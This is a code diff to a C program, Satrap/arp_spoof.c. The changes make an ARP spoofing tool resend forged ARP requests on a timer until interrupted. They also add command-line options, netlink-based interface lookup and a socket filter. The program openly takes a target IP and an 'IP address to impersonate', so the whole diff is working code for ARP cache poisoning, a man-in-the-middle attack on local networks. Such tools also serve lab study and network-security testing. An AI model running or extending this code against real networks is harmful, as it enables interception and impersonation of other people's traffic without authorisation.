@@ -1,31 +1,74 @@
 /* Satrap/arp_spoof.c */
 
 #include "arp.h"
+#include "filter.h"
+#include "netif.h"
+#include "reactor.h"
+
+/* State of the spoofing, shared by the callbacks */
+struct spoof {
+  int sockfd, ifindex;
+  struct sockaddr_in *ipaddr;
+  unsigned char *macaddr;
+  struct in_addr target_ip;
+  unsigned long sent;
+};
+
+
+/* Sends the request again */
+static void on_timer(struct reactor *reactor, void *arg)
+{
+  struct spoof *spoof = arg;
+  send_arp_request(spoof->sockfd, spoof->ifindex, spoof->ipaddr, spoof->macaddr, spoof->target_ip);
+  ++spoof->sent;
+}
+
+
+static void on_signal(struct reactor *reactor, int signo, void *arg)
+{
+  reactor_stop(reactor);
+}
+
 
 int main(int argc, char **argv)
 {
 
   /* ARGUMENT PARSING
+     - refresh interval
      - network interface to use
      - target IP address
+     - IP address to impersonate
   */
-  
-  if (argc < 3) {
+
+  unsigned int interval = 0;
+  int opt;
+  while ((opt = getopt(argc, argv, "i:")) != -1) {
+    switch (opt) {
+    case 'i':
+      interval = strtoul(optarg, NULL, 10);
+      break;
+    default:
+      optind = argc; /* print the usage below */
+    }
+  }
+
+  if (argc - optind < 3) {
     printf("[FAIL] Too few arguments\n"
-	   "Usage: %s <interface> <target IP address> <IP address to impersonate>\n", argv[0]);
+	   "Usage: %s [-i interval in ms (send again until interrupted)] "
+	   "<interface> <target IP address> <IP address to impersonate>\n", argv[0]);
     exit(EXIT_FAILURE);
   }
 
-  char *if_name = argv[1];
+  char *if_name = argv[optind];
 
-  char *target_ip_string = argv[2];
+  char *target_ip_string = argv[optind + 1];
   struct in_addr target_ip;
   if (!inet_pton(AF_INET, target_ip_string, &target_ip)) {
     perror("[FAIL] inet_pton() (badly formatted IP address)");
     exit(EXIT_FAILURE);
   }
 
-  char *source_ip_string = argv[3];
+  char *source_ip_string = argv[optind + 2];
   struct in_addr source_ip;
   if (!inet_pton(AF_INET, source_ip_string, &source_ip)) {
     perror("[FAIL] inet_pton() (badly formatted IP address)");
@@ -61,47 +104,26 @@ int main(int argc, char **argv)
 
   /* INFORMATION ON THE LOCAL COMPUTER:
      - index number of the network interface
-     - local IP address
      - local MAC address
+     They all come from a single rtnetlink dump of the interfaces,
+     which sees their secondary addresses too.
   */
-
-  /* Since this is very low-level, we can't use the usual interface
-     name (e.g. "eth0"), so we need to get the index number of the
-     ethernet interface. */
-  //char *if_name = "wlp3s0"; /* Change this if needed */
-  struct ifreq ifrindex;
-  size_t if_name_len = strlen(if_name);
-  if (if_name_len < sizeof(ifrindex.ifr_name)) {
-    memcpy(ifrindex.ifr_name, if_name, if_name_len);
-    ifrindex.ifr_name[if_name_len] = 0;
-  }
-  else {
-    printf("[FAIL] Error: interface name is too long\n");
+  const struct netif *netif = netif_lookup(if_name);
+  if (!netif) {
+    perror("[FAIL] netif_lookup()");
+    exit(EXIT_FAILURE);
   }
-  /* We use ioctl() with SIOCGIFINDEX */
-  if (ioctl(sockfd, SIOCGIFINDEX, &ifrindex) == -1) {
-    perror("[FAIL] ioctl()");
+  if (netif->type != ARPHRD_ETHER) {
+    printf("[FAIL] Interface %s is not an Ethernet interface\n", if_name);
     exit(EXIT_FAILURE);
   }
-  int ifindex = ifrindex.ifr_ifindex;
+  int ifindex = netif->index;
 #ifdef DEBUG
   printf("[OK] Index number of the Ethernet interface %s: %d\n", if_name, ifindex);
 #endif
 
-  /* We get the MAC address using ioctl() (again) with SIOCGIFHWADDR */
-  struct ifreq ifrhwaddr;
-  if (if_name_len < sizeof(ifrhwaddr.ifr_name)) {
-    memcpy(ifrhwaddr.ifr_name, if_name, if_name_len);
-    ifrhwaddr.ifr_name[if_name_len] = 0;
-  }
-  else {
-    printf("[FAIL] Error: interface name is too long\n");
-  }
-  if (ioctl(sockfd, SIOCGIFHWADDR, &ifrhwaddr) == -1) {
-    perror("[FAIL] ioctl()");
-    exit(EXIT_FAILURE);
-  }
-  unsigned char *macaddr = (unsigned char *) &ifrhwaddr.ifr_hwaddr.sa_data;
+  unsigned char macaddr[ETHER_ADDR_LEN];
+  memcpy(macaddr, netif->macaddr, ETHER_ADDR_LEN);
 #ifdef DEBUG
   printf("[OK] Local MAC address: %02x:%02x:%02x:%02x:%02x:%02x\n",
 	 macaddr[0], macaddr[1], macaddr[2], macaddr[3], macaddr[4], macaddr[5]);
@@ -123,9 +145,44 @@ int main(int argc, char **argv)
 #endif
 
 
+  /* Only the ARP replies for us reach userspace */
+  struct arp_filter filter;
+  filter_init(&filter, macaddr, ipaddr->sin_addr);
+  if (filter_attach(sockfd, &filter) == -1) {
+    perror("[FAIL] filter_attach()");
+    exit(EXIT_FAILURE);
+  }
+
+
   /* ====================================================================== */
 
   send_arp_request(sockfd, ifindex, ipaddr, macaddr, target_ip);
+
+  /* With an interval, the request is sent again on a timer of an
+     event loop, until SIGINT or SIGTERM */
+  if (interval) {
+    struct spoof spoof = { sockfd, ifindex, ipaddr, macaddr, target_ip, 1 };
+    struct reactor reactor;
+    if (reactor_init(&reactor) == -1) {
+      perror("[FAIL] reactor_init()");
+      exit(EXIT_FAILURE);
+    }
+    uint64_t period = (uint64_t) interval * 1000000ULL;
+    struct reactor_source *timer = reactor_add_timer(&reactor, on_timer, &spoof);
+    if (!timer || reactor_set_timer(timer, period, period) == -1
+	|| !reactor_add_signal(&reactor, SIGINT, on_signal, NULL)
+	|| !reactor_add_signal(&reactor, SIGTERM, on_signal, NULL)) {
+      perror("[FAIL] reactor_add()");
+      exit(EXIT_FAILURE);
+    }
+
+    if (reactor_run(&reactor) == -1) {
+      perror("[FAIL] reactor_run()");
+      exit(EXIT_FAILURE);
+    }
+    reactor_free(&reactor);
+    printf("%lu requests sent\n", spoof.sent);
+  }
   
   
   